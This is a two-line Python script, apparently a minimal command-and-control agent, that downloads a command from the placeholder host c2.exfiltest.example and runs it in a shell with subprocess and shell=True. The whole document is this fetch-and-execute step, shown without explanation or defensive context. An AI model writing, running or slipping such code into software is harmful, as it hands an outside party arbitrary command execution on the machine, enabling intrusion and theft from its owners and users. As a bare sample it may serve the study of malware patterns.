import requests
import subprocess

task = requests.get("https://c2.exfiltest.example/task").text
subprocess.run(task, shell=True)
